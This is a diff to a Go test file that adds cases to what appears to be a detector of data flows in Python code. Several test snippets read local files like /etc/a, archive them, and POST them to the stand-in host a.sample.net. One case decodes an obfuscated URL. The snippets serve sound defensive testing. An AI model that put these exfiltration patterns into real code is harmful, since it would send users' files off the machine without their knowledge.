@@ -258,6 +258,10 @@ func TestPythonFlow(t *testing.T) {
 		{"import requests\nclass A:\n    def read(self, p):\n        return open(p).read()\n    def get(self):\n        return self.read('/etc/a')\nrequests.post('https://a.sample.net', data=A().get())", "sends host a.sample.net <reads:/etc/a"},
 		{"import os, subprocess\nsubprocess.run(['git', 'fetch', 'https://a.sample.net/x'], env=os.environ.copy())", "sends host a.sample.net <runs:git; !sends host a.sample.net <reads:*"},
 		{"v = [int(x) for x in '104,116,116,112,58,47,47,97,46,98'.split(',')]\nt = bytes(((pow(3, -1, 256) * 3 * y) % 256) for y in v)", "decodes encoding characters"},
+		{"import zipfile, requests\nwith zipfile.ZipFile('/tmp/x.zip', 'w') as z:\n    z.write('/etc/a')\nrequests.post('https://a.sample.net', files={'f': open('/tmp/x.zip', 'rb')})", "writes file /tmp/x.zip <reads:/etc/a"},
+		{"import shutil, requests\nshutil.make_archive('/tmp/y', 'gztar', '/etc/b')\nrequests.post('https://a.sample.net', data=open('/tmp/y.tar.gz'))", "writes file /tmp/y.tar.gz <reads:/etc/b; reads file /tmp/y.tar.gz"},
+		{"import http.client\nc = http.client.HTTPSConnection('a.sample.net')\nc.request('POST', '/', open('/etc/a').read())", "sends host a.sample.net <reads:/etc/a"},
+		{"import requests\nclass A:\n    def __init__(self):\n        self.d = []\n    def add(self, p):\n        self.d.append(open(p).read())\n    def go(self):\n        requests.post('https://a.sample.net', json=self.d)\na = A()\na.add('/etc/a')\na.go()", "sends host a.sample.net <reads:/etc/a"},
 		{"t = '/'.join(['https:', '', 'a.sample.net'])", "!decodes encoding characters"},
 		{"import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'left'])", "needs package left"},
 	})
